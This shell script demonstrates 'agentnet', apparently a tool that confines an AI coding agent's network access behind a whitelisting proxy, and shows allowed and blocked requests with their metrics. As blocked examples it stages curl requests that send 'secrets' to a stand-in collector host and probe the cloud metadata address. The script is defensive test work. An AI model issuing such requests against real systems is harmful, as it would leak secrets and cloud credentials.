#!/bin/sh
# The demonstration: a real task on a real engine, what it may reach, what it may not, the proof and the count.
# It brings its own HTTPS origin and needs no internet. Progress goes to stderr, the story to stdout.
set -eu

root=$(CDPATH='' cd -- "$(dirname -- "$0")/.." && pwd)
# shellcheck source=scripts/engine.sh
. "$root/scripts/engine.sh"
: "${AGENTNET_BIN_DIR:?is the directory with the static binaries; type: make demo}"

origin=origin.demo.test
stranger=collector.demo.test
scratch=$(mktemp -d)
server=

say() { printf '%s\n' "$*" >&2; }
bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
    bold=$(printf '\033[1m') plain=$(printf '\033[0m')
fi
title() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }

# shellcheck disable=SC2317 # the trap calls it
tidy() {
    status=$?
    trap - EXIT
    [ -z "$server" ] || on_engine docker rm --force --volumes "$server" >/dev/null 2>&1 || :
    [ -z "$engine" ] || agentnet down --all --quiet >/dev/null 2>&1 || :
    for pid in ${bare_pids:-}; do kill "$pid" 2>/dev/null || :; done
    leave_engine
    rm -rf "$scratch"
    exit $status
}
trap tidy EXIT
trap 'exit 130' INT TERM

agentnet() { (cd "$scratch/shop" && on_engine env AGENTNET_STATE_DIR="$scratch/state" "$AGENTNET_BIN_DIR/agentnet" "$@"); }

# await TENTHS CMD…: polls, bounded.
await() {
    left=$1
    shift
    until "$@" >/dev/null 2>&1; do
        left=$((left - 1))
        [ "$left" -gt 0 ] || return 1
        sleep 0.1
    done
}

# show CMD…: what a person would type, and what came of it.
show() {
    printf '$ %s\n' "$*"
}

# --- a repository that somebody wants an agent to work on --------------------------------------------------------

repository() {
    git init --quiet --initial-branch=main "$scratch/shop"
    mkdir "$scratch/shop/.agentnet"
    cat >"$scratch/shop/agentnet.toml" <<TOML
project = "demo-shop"
[agent]
command = ["sleep", "infinity"]
TOML
    cat >"$scratch/shop/.agentnet/whitelist.txt" <<TXT
$origin private    # where the code and the packages come from
TXT
    echo 'a small shop' >"$scratch/shop/README"
    git -C "$scratch/shop" add .
    git -C "$scratch/shop" -c user.name=demo -c user.email=demo@example.org commit --quiet --message 'A shop'
}

# --- on an engine -------------------------------------------------------------------------------------------------

with_an_engine() {
    say "building the agent's image (the first time takes a while)"
    on_engine "$root/scripts/images.sh" ${base:+--base "$base"} agent tools >/dev/null 2>"$scratch/images.log" || {
        cat "$scratch/images.log" >&2
        exit 1
    }
    repository

    title "A task of its own: worktree, network, proxy, agent. Proven sealed before anything runs in it."
    show agentnet up fix-login
    agentnet up fix-login

    network=$(on_engine docker network ls --quiet --filter label=agentnet.project=demo-shop --filter label=agentnet.role=egress)
    server=agentnet-demo-origin-$$
    on_engine docker run --detach --name "$server" --network "$network" --network-alias "$origin" --network-alias "$stranger" \
        --user 0 --init agentnet/agent:latest python3 -c "$(cat "$root/tests/origin/origin.py")" "$origin" "$stranger" >/dev/null
    # shellcheck disable=SC2016 # expanded by the inner shell
    await 300 on_engine sh -c 'docker logs "$0" 2>/dev/null | grep -q ready' "$server"
    on_engine docker exec "$server" cat /tmp/origin/ca.pem >"$scratch/ca.pem"
    agentnet exec fix-login -- sh -c 'cat >/tmp/ca.pem' <"$scratch/ca.pem"

    title "The proof, a line a topic; without --brief every way out that was tried."
    show "agentnet verify fix-login --brief --allowed $origin:443"
    agentnet verify fix-login --brief --allowed "$origin:443"

    title "Allowed: .agentnet/whitelist.txt names $origin."
    show "agentnet exec fix-login -- curl https://$origin/hello"
    agentnet exec fix-login -- curl --silent --show-error --cacert /tmp/ca.pem "https://$origin/hello"
    show "agentnet exec fix-login -- git clone https://$origin/sample.git"
    agentnet exec fix-login -- sh -c "cd /tmp && GIT_SSL_CAINFO=/tmp/ca.pem git clone https://$origin/sample.git && cat sample/README" 2>&1

    title "Blocked: the same server, under a name that nobody listed."
    show "agentnet exec fix-login -- curl -v https://$stranger/collect?secrets"
    agentnet exec fix-login -- curl --silent --show-error --verbose "https://$stranger/collect?secrets" 2>&1 |
        grep -iE '^(< HTTP|< x-agentnet|curl:)' || :
    show "agentnet exec fix-login -- curl http://$stranger/collect?secrets"
    agentnet exec fix-login -- curl --silent "http://$stranger/collect?secrets" || :

    title "Counted, for Prometheus."
    proxy=$(on_engine docker ps --quiet --filter label=agentnet.project=demo-shop --filter label=agentnet.role=proxy)
    on_engine docker exec "$proxy" /agentnet-proxy admin metrics >"$scratch/metrics"
    grep -E '^agentnet_proxy_requests_total.*reason="not_listed"' "$scratch/metrics" | grep -v ' 0$' || :
    grep -E "^agentnet_proxy_blocked_hosts_total.*$stranger" "$scratch/metrics"

    on_engine docker rm --force --volumes "$server" >/dev/null
    server=
    title "And away."
    show agentnet down fix-login
    agentnet down fix-login 2>&1
}

# --- without one --------------------------------------------------------------------------------------------------

without_an_engine() {
    cat >"$scratch/whitelist.txt" <<TXT
example.org                        # a name that is allowed
telemetry.example.com quiet deny   # refused without an alert
TXT
    "$AGENTNET_BIN_DIR/agentnet-proxy" --listen 127.0.0.1:0 --admin "unix:$scratch/admin.sock" --log text \
        --whitelist "$scratch/whitelist.txt" >"$scratch/events" 2>"$scratch/diagnostics" &
    bare_pids=$!
    await 100 test -S "$scratch/admin.sock"
    await 100 grep -q '127\.0\.0\.1:[1-9]' "$scratch/diagnostics"
    address=$(grep -o '127\.0\.0\.1:[1-9][0-9]*' "$scratch/diagnostics" | head -n 1)

    title "The proxy alone, on this machine, at $address."
    show "agentnet-proxy explain --whitelist whitelist.txt https://example.org/"
    "$AGENTNET_BIN_DIR/agentnet-proxy" explain --whitelist "$scratch/whitelist.txt" https://example.org/ || :
    show "curl --proxy http://$address http://$stranger/collect?secrets"
    curl --silent --noproxy '' --proxy "http://$address" "http://$stranger/collect?secrets" || :
    show "curl --proxy http://$address https://169.254.169.254/"
    curl --silent --show-error --noproxy '' --proxy "http://$address" https://169.254.169.254/ 2>&1 || :

    title "What it says about it."
    cat "$scratch/events"
    "$AGENTNET_BIN_DIR/agentnet-proxy" admin --admin "unix:$scratch/admin.sock" metrics 2>/dev/null |
        grep -E '^agentnet_proxy_requests_total.*verdict="deny"' | grep -v ' 0$' || :
}

begin=$(date +%s)
find_engine
if [ -n "$engine" ]; then
    version=$(on_engine docker version --format '{{.Server.Version}}')
    say "engine: Docker $version ($engine)"
    with_an_engine
    printf '\nThat was Docker %s, %s seconds.\n' "$version" "$(($(date +%s) - begin))"
else
    without_an_engine
    printf '\nMissing for the rest (a fenced task): %s\n' "$why_no_engine"
fi
